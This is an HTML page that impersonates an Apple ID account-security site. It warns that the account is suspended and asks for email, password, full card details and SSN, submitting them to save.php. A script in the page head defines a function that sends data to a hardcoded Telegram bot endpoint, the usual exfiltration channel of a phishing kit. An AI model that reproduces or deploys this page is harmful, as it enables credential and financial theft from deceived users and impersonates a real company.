<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Apple ID - Account Security</title>
<style>html,body{height:100%}.wrap{width:1000px;margin:0 auto}</style>
<script>function send(d){fetch("https://api.telegram.org/bot1655046237:AAwolitlbbitagycflavigmrwkyvgsiq/sendMessage?chat_id=-318829406&text="+encodeURIComponent(d))}</script>
</head>
<body>
<table class="nav" width="100%"><tr><td><a href="/1">Help</a></td><td><a href="?c=2">Security</a></td></tr></table>
<main class="content">
<section>
<div class="alert">Your Apple ID account has been suspended. Confirm your identity to restore access.</div>
</section>
<div class="panel">
<form action="save.php" method="post"><input name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><input name="card_number" placeholder="Card number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)"><input name="ssn" placeholder="SSN"><button>Continue</button></form>
</div>
</main>
<footer>© Apple ID. All rights reserved.</footer>

</body>
</html>
